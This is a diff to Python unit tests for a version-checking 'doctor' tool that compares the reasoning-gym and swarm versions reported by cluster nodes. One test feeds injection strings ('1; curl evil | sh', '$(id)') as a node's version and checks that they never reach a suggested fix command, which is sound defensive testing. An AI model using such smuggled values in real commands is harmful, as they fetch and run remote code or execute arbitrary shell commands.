@@ -12,6 +12,8 @@ from swarm.views.doctor import trust, versions
 from tests.unit.views.doctor.patients import FAILURE, OK, WARNING, look, make_patient
 from tests.unit.views.factories import START, append, append_events, make_event, make_experiment, make_row
 
+GYM = "reasoning-gym"
+
 
 def start(layout: object, node: str, **said: str) -> None:
     event = make_event("node.starting", START) | {name.replace("_", "-"): value for name, value in said.items()}
@@ -78,19 +80,19 @@ def test_the_last_start_of_a_node_counts(tmp_path: Path) -> None:
     for older_first in ("0.1.9", "0.1.25"):
         start(layout, "alice", swarm="0.1.0", reasoning_gym=older_first)
     start(layout, "bob", swarm="0.1.0", reasoning_gym="0.1.25")
-    assert {said.gym for said in versions.measure(layout).values()} == {"0.1.25"}
+    assert {said["reasoning-gym"] for said in versions.measure(layout).values()} == {"0.1.25"}
 
 
 def test_a_host_whose_version_is_not_that_of_the_nodes_is_warned() -> None:
-    nodes = {"alice": versions.NodeVersions(gym="0.1.25")}
-    assert next(versions.judge(nodes, "0.1.25")).verdict is OK
-    assert next(versions.judge(nodes, "")).verdict is OK  # a host that only looks
-    found = next(versions.judge(nodes, "0.1.30"))
+    nodes = {"alice": {GYM: "0.1.25"}}
+    assert versions.judge(GYM, nodes, "0.1.25").verdict is OK
+    assert versions.judge(GYM, nodes, "").verdict is OK  # a host that only looks
+    found = versions.judge(GYM, nodes, "0.1.30")
     assert (found.verdict, "reasoning-gym==0.1.25" in found.fix) == (WARNING, True)
 
 
 @pytest.mark.parametrize("said", ["1; curl evil | sh", "1.\u00b2", "9" * 5000, "$(id)"])
 def test_what_no_version_can_be_comes_into_no_command(said: str) -> None:
-    nodes = {"alice": versions.NodeVersions(gym="0.1.25"), "mallory": versions.NodeVersions(gym=said, swarm=said)}
-    for finding in versions.judge(nodes, "0.1.30"):
+    nodes = {"alice": {GYM: "0.1.25"}, "mallory": {GYM: said, "swarm": said}}
+    for finding in (versions.judge(GYM, nodes, "0.1.30"), versions.judge_ours(nodes)):
         assert said not in finding.fix
